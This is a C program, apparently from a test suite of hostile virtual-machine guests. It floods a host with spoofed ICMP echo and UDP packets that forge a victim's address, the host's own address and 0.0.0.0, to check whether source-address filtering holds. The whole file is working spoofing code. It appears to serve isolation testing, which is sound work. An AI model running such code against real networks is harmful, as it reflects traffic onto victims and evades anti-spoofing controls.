/* SPDX-License-Identifier: MIT */
/*
 * IPv4 with another source address: ICMP echo requests and UDP to the
 * host (host_ip=, host_mac=) from the victim's address (victim_ip=),
 * from the host's own address and from 0.0.0.0, all from the attacker's
 * real MAC. The host's replies would go to the victim; a VM given an
 * address may send only from it. Forever, paced.
 */
#include "hostile.h"

static uint8_t f[128];

static void icmp_echo(const uint8_t *host, const uint8_t *mac, uint32_t src,
		      uint32_t dst, uint16_t seq)
{
	uint8_t *p;

	memset(f, 0, sizeof(f));
	p = hostile_ipv4(hostile_eth(f, host, mac, ETH_P_IP), 1, src, dst, 16);
	p[0] = 8;
	hostile_put16(p + 4, 0x4242);
	hostile_put16(p + 6, seq);
	memcpy(p + 8, "hostile!", 8);
	hostile_put16(p + 2, hostile_fold(hostile_sum(p, 16, 0)));
	hostile_send(f, 14 + 20 + 16);
}

static void udp(const uint8_t *host, const uint8_t *mac, uint32_t src,
		uint32_t dst)
{
	uint8_t *ip, *p;

	memset(f, 0, sizeof(f));
	ip = hostile_eth(f, host, mac, ETH_P_IP);
	p = hostile_udp(hostile_ipv4(ip, 17, src, dst, 8 + 8), 7777, 9, 8);
	memcpy(p, "spoofed!", 8);
	hostile_put16(p - 2, hostile_csum4_udp(ip, 16));
	hostile_send(f, 14 + 20 + 16);
}

int main(void)
{
	uint32_t vip = hostile_ip_arg("victim_ip", 0x0a000002);
	uint32_t hip = hostile_ip_arg("host_ip", 0x0a000001);
	uint8_t mac[6], host[6];
	unsigned long round;

	hostile_own_mac(mac);
	hostile_mac_arg("host_mac", host);
	printf("ipspoof: spoofing\n");
	for (round = 1;; round++) {
		icmp_echo(host, mac, vip, hip, round);
		udp(host, mac, vip, hip);
		icmp_echo(host, mac, hip, hip, round);
		icmp_echo(hostile_bcast, mac, 0, 0xffffffffU, round);
		hostile_pace("ipspoof", round, 10000);
	}
}
